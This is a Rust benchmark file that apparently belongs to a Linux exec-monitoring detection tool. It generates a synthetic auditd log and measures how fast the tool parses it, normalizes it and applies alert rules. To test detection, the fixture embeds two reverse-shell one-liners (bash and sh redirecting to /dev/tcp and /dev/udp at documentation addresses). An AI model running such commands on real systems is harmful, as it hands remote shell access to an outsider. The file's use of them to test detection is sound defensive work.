//! Replay of a raw audit.log on one core: `replay --format audit`'s code path (line reader →
//! record parser → assembler → normalizer with its process table → built-in rules → alerts → null
//! sink), against the platform crate's parse + assemble alone, measured in the same run.
//!
//! The log is generated: per exec SYSCALL, EXECVE, CWD, two PATH, PROCTITLE (no EOE, as auditd
//! writes audit.log), consecutive serials, jiffy-coarse timestamps; arguments quoted or hex
//! (spaces, quotes, UTF-8), 1% with a 12 KB argument split over two EXECVE records
//! (`aN_len`, `aN[i]`); parent trees (login shells → `sh -c` → children, most parents exec'd
//! earlier in the log); 1% reverse shells to a documentation address.
//!
//! `cargo bench --bench audit_replay` (100k execs, median of 5). Run without `--bench` (as
//! `cargo test --all-targets` does) it is a quick smoke run.

#[cfg(target_os = "linux")]
fn main() {
    linux::main();
}

#[cfg(not(target_os = "linux"))]
fn main() {
    println!("audit_replay: Linux audit replay is Linux-only");
}

#[cfg(target_os = "linux")]
mod linux {
    use std::fmt::Write as _;
    use std::hint::black_box;
    use std::sync::Arc;
    use std::time::{Duration, Instant};

    use execsentry::eql::Options;
    use execsentry::process_table::Limits;
    use execsentry::replay::{FormatChoice, Replay};
    use execsentry::rules::{load_builtin, RuleSet};
    use execsentry::sink::NullSink;
    use execsentry::source::audit_live::sensor_limits;
    use execsentry::source::linux_audit::AuditNormalizer;
    use execsentry::source::Format;
    use execsentry_linux::reader::LineReader;
    use execsentry_linux::{Assembler, AssemblerConfig, AuditEvent};

    /// Deterministic pseudo-random numbers (xorshift64*), so every run replays the same log.
    struct Rng(u64);

    impl Rng {
        fn next(&mut self) -> u64 {
            self.0 ^= self.0 >> 12;
            self.0 ^= self.0 << 25;
            self.0 ^= self.0 >> 27;
            self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
        }

        fn below(&mut self, n: u64) -> u64 {
            self.next() % n
        }

        fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
            &items[self.below(items.len() as u64) as usize]
        }
    }

    /// Commands children run: (exe, argv).
    const COMMANDS: &[(&str, &[&str])] = &[
        ("/usr/bin/ls", &["ls", "-la", "/var/log"]),
        (
            "/usr/bin/grep",
            &["grep", "-r", "connection refused", "/var/log/syslog"],
        ),
        (
            "/usr/bin/git",
            &["git", "log", "--format=%H %s", "-n", "20"],
        ),
        (
            "/usr/bin/python3.11",
            &["python3", "/opt/app/worker.py", "--queue", "default"],
        ),
        (
            "/usr/bin/curl",
            &[
                "curl",
                "-s",
                "-H",
                "Accept: application/json",
                "https://example.com/health",
            ],
        ),
        ("/usr/bin/cat", &["cat", "/etc/os-release"]),
        ("/usr/bin/sed", &["sed", "-n", "s/\"//g;p", "/tmp/café.txt"]),
        ("/usr/bin/systemctl", &["systemctl", "is-active", "nginx"]),
        ("/usr/bin/make", &["make", "-j2", "all"]),
        (
            "/usr/bin/cc",
            &["cc", "-O2", "-c", "main.c", "-o", "main.o"],
        ),
        (
            "/usr/bin/bash",
            &["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/8080"],
        ),
    ];

    const REVERSE_SHELLS: &[(&str, &[&str])] = &[
        (
            "/usr/bin/bash",
            &["bash", "-c", "bash -i >& /dev/tcp/192.0.2.10/4444 0>&1"],
        ),
        (
            "/usr/bin/dash",
            &["sh", "-c", "sh -i >& /dev/udp/198.51.100.7/53 0>&1"],
        ),
    ];

    /// An argument as the kernel writes it: quoted unless it has a byte that forces hex.
    fn encode(out: &mut String, key: &str, arg: &[u8]) {
        let plain = arg.iter().all(|&b| b > 0x20 && b < 0x7f && b != b'"');
        if plain {
            let _ = write!(out, " {key}=\"{}\"", std::str::from_utf8(arg).unwrap());
        } else {
            let _ = write!(out, " {key}=");
            for b in arg {
                let _ = write!(out, "{b:02X}");
            }
        }
    }

    struct Exec<'a> {
        exe: &'a str,
        argv: Vec<Vec<u8>>,
        pid: u32,
        ppid: u32,
    }

    fn write_exec(out: &mut String, serial: u32, time: &str, e: &Exec) {
        let comm = e.exe.rsplit('/').next().unwrap();
        let _ = writeln!(
            out,
            "type=SYSCALL msg=audit({time}:{serial}): arch=c000003e syscall=59 success=yes exit=0 \
             a0=55d0c0a1b2c0 a1=55d0c0a1b300 a2=55d0c0a1b320 a3=8 items=2 ppid={} pid={} auid=1000 \
             uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 \
             tty=pts0 ses=3 comm=\"{comm}\" exe=\"{}\" key=\"execsentry\"",
            e.ppid, e.pid, e.exe
        );
        // EXECVE: long arguments are split as the kernel does it (hex chunks, 2nd record).
        let mut line = format!(
            "type=EXECVE msg=audit({time}:{serial}): argc={}",
            e.argv.len()
        );
        for (i, arg) in e.argv.iter().enumerate() {
            if arg.len() > 4096 {
                let hex: String = arg.iter().map(|b| format!("{b:02X}")).collect();
                let (a, b) = hex.split_at(7000);
                let _ = write!(line, " a{i}_len={} a{i}[0]={a}", hex.len());
                let _ = writeln!(out, "{line}");
                line = format!("type=EXECVE msg=audit({time}:{serial}):  a{i}[1]={b}");
            } else {
                encode(&mut line, &format!("a{i}"), arg);
            }
        }
        let _ = writeln!(out, "{line}");
        let _ = writeln!(
            out,
            "type=CWD msg=audit({time}:{serial}): cwd=\"/home/dev/project\""
        );
        let _ = writeln!(
            out,
            "type=PATH msg=audit({time}:{serial}): item=0 name=\"{}\" inode=262321 dev=fe:00 \
             mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 \
             cap_fver=0 cap_frootid=0",
            e.exe
        );
        let _ = writeln!(
            out,
            "type=PATH msg=audit({time}:{serial}): item=1 name=\"/lib64/ld-linux-x86-64.so.2\" \
             inode=325843 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL \
             cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"
        );
        let title: Vec<u8> = e.argv.join(&0u8).into_iter().take(128).collect();
        let mut line = format!("type=PROCTITLE msg=audit({time}:{serial}):");
        encode(&mut line, "proctitle", &title);
        let _ = writeln!(out, "{line}");
    }

    /// `n` execs; returns the log and how many are reverse shells.
    pub fn generate(n: usize) -> (Vec<u8>, usize) {
        let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
        let mut out = String::with_capacity(n * 1400);
        let mut next_pid = 3000u32;
        // Login shells (exec'd first), then `sh -c` scripts under them, then their children.
        let mut shells: Vec<u32> = Vec::new();
        let mut scripts: Vec<u32> = Vec::new();
        let mut reverse = 0;
        for i in 0..n {
            let serial = 1000 + i as u32;
            let ms = 1_795_843_539_000u64 + (i as u64 / 10) * 4;
            let time = format!("{}.{:03}", ms / 1000, ms % 1000);
            next_pid = if next_pid > 4_000_000 {
                3000
            } else {
                next_pid + 1
            };
            let pid = next_pid;
            let roll = rng.below(100);
            let exec = if shells.len() < 8 || roll == 0 {
                // A login shell under sshd (never exec'd in the log: parent unknown).
                shells.push(pid);
                if shells.len() > 16 {
                    shells.remove(0);
                }
                Exec {
                    exe: "/usr/bin/bash",
                    argv: vec![b"-bash".to_vec()],
                    pid,
                    ppid: 812,
                }
            } else if roll < 10 {
                scripts.push(pid);
                if scripts.len() > 64 {
                    scripts.remove(0);
                }
                Exec {
                    exe: "/usr/bin/dash",
                    argv: vec![
                        b"sh".to_vec(),
                        b"-c".to_vec(),
                        b"for f in *.log; do gzip \"$f\"; done".to_vec(),
                    ],
                    pid,
                    ppid: *rng.pick(&shells),
                }
            } else {
                let (exe, args) = if roll == 10 {
                    reverse += 1;
                    *rng.pick(REVERSE_SHELLS)
                } else {
                    *rng.pick(COMMANDS)
                };
                let mut argv: Vec<Vec<u8>> = args.iter().map(|a| a.as_bytes().to_vec()).collect();
                if roll == 11 {
                    // 1%: a 12 KB argument (a generated script, a long JSON payload).
                    argv.push(vec![b'x'; 12 * 1024]);
                }
                let ppid = if scripts.is_empty() || rng.below(2) == 0 {
                    *rng.pick(&shells)
                } else {
                    *rng.pick(&scripts)
                };
                Exec {
                    exe,
                    argv,
                    pid,
                    ppid,
                }
            };
            write_exec(&mut out, serial, &time, &exec);
        }
        (out.into_bytes(), reverse)
    }

    fn median(mut runs: Vec<Duration>) -> Duration {
        runs.sort();
        runs[runs.len() / 2]
    }

    /// CPU time of this thread: on a shared machine the wall clock also counts other tenants'
    /// time slices, the thread's CPU time only what the replay used.
    fn cpu_time() -> Duration {
        let mut ts = libc::timespec {
            tv_sec: 0,
            tv_nsec: 0,
        };
        // SAFETY: clock_gettime writes one timespec we own.
        unsafe { libc::clock_gettime(libc::CLOCK_THREAD_CPUTIME_ID, &mut ts) };
        Duration::new(ts.tv_sec as u64, ts.tv_nsec as u32)
    }

    /// Wall and CPU time of one run.
    #[derive(Clone, Copy)]
    struct Timed {
        wall: Duration,
        cpu: Duration,
    }

    fn timed<T>(f: impl FnOnce() -> T) -> (T, Timed) {
        let (w, c) = (Instant::now(), cpu_time());
        let out = f();
        let t = Timed {
            wall: w.elapsed(),
            cpu: cpu_time().saturating_sub(c),
        };
        (out, t)
    }

    /// The platform crate alone: lines → records → assembled exec records.
    fn parse_and_assemble(log: &[u8]) -> usize {
        let mut asm = Assembler::new(sensor_limits(AssemblerConfig::text()));
        let mut execs = 0usize;
        let mut reader = LineReader::new(log);
        let mut count = |e: AuditEvent| {
            if let AuditEvent::Exec(rec) = e {
                black_box(&rec);
                execs += 1;
            }
        };
        reader
            .feed(&mut asm, &mut count, &mut |e| panic!("{e}"))
            .unwrap();
        asm.flush(&mut count);
        assert_eq!(asm.stats().lost_serials, 0);
        execs
    }

    /// The above plus the normalizer: `ProcessEvent`s with parents from the process table.
    fn normalize(log: &[u8], host: &Arc<execsentry::event::HostInfo>) -> (usize, usize) {
        let mut asm = Assembler::new(sensor_limits(AssemblerConfig::text()));
        let mut normalizer = AuditNormalizer::replay(Arc::clone(host), Limits::default());
        let (mut execs, mut with_parent) = (0usize, 0usize);
        let mut reader = LineReader::new(log);
        let mut emit = |e: AuditEvent| {
            if let AuditEvent::Exec(rec) = e {
                let event = normalizer.exec(&rec);
                execs += 1;
                with_parent += usize::from(event.parent.is_some());
                black_box(&event);
            }
        };
        reader
            .feed(&mut asm, &mut emit, &mut |e| panic!("{e}"))
            .unwrap();
        asm.flush(&mut emit);
        (execs, with_parent)
    }

    pub fn main() {
        let full = std::env::args().any(|a| a == "--bench");
        let (execs, reps) = if full { (100_000, 5) } else { (2_000, 1) };
        let (log, reverse) = generate(execs);
        let (rules, rest) = RuleSet::from_reports(load_builtin(&Options::default()));
        assert!(
            rest.is_empty() && !rules.is_empty(),
            "the built-in rules did not load: {rest:?}"
        );
        let host = Arc::new(execsentry::host::local());

        // AUDIT_REPLAY_ONLY=baseline|normalize|replay runs one stage (for a profiler).
        let only = std::env::var("AUDIT_REPLAY_ONLY").ok();
        let run = |stage: &str| only.as_deref().is_none_or(|o| o == stage);
        let (mut base, mut norm, mut replay) = (Vec::new(), Vec::new(), Vec::new());
        let (mut alerts, mut with_parent) = (reverse as u64, 0);
        for _ in 0..reps {
            if run("baseline") {
                let (n, t) = timed(|| parse_and_assemble(&log));
                assert_eq!(n, execs);
                base.push(t);
            }
            if run("normalize") {
                let ((n, p), t) = timed(|| normalize(&log, &host));
                assert_eq!(n, execs);
                with_parent = p;
                norm.push(t);
            }
            if run("replay") {
                let ((stats, sink), t) = timed(|| {
                    let mut rp = Replay::new(&rules, NullSink::default());
                    rp.input("bench", &log[..], FormatChoice::Fixed(Format::Audit))
                        .unwrap();
                    let stats = rp.stats().clone();
                    (stats, rp.finish().unwrap())
                });
                replay.push(t);
                assert_eq!(stats.events as usize, execs);
                assert_eq!((stats.malformed, stats.lost_serials), (0, 0));
                assert_eq!(sink.lines, stats.alerts);
                alerts = stats.alerts + stats.suppressed;
            }
        }
        if only.is_some() {
            return;
        }
        assert_eq!(
            alerts as usize, reverse,
            "every reverse shell, and nothing else"
        );

        let rate = |d: Duration| execs as f64 / d.as_secs_f64();
        let mib = log.len() as f64 / (1024.0 * 1024.0);
        let medians = |runs: &[Timed]| {
            (
                median(runs.iter().map(|t| t.cpu).collect()),
                median(runs.iter().map(|t| t.wall).collect()),
            )
        };
        let (base, norm, replay) = (medians(&base), medians(&norm), medians(&replay));
        println!(
            "audit replay bench: {execs} execs ({reverse} reverse shells, {:.0}% with a known parent), \
             {mib:.1} MiB of audit.log, median of {reps}, one thread; rates per CPU-second (wall-clock rate in brackets)",
            100.0 * with_parent as f64 / execs as f64
        );
        for (name, (cpu, wall)) in [
            ("baseline: platform parse + assemble", base),
            ("  + normalize (ProcessEvent, process table)", norm),
            ("replay --format audit: + built-in rules + alerts", replay),
        ] {
            println!(
                "  {name:<50} {:>9.0} execs/s {:>7.1} MiB/s  [{:>9.0} execs/s]",
                rate(cpu),
                mib / cpu.as_secs_f64(),
                rate(wall)
            );
        }
        println!(
            "  replay / baseline throughput ratio: {:.2}; replay vs the 500,000 execs/s target: {:.2}x",
            rate(replay.0) / rate(base.0),
            rate(replay.0) / 500_000.0
        );
    }
}
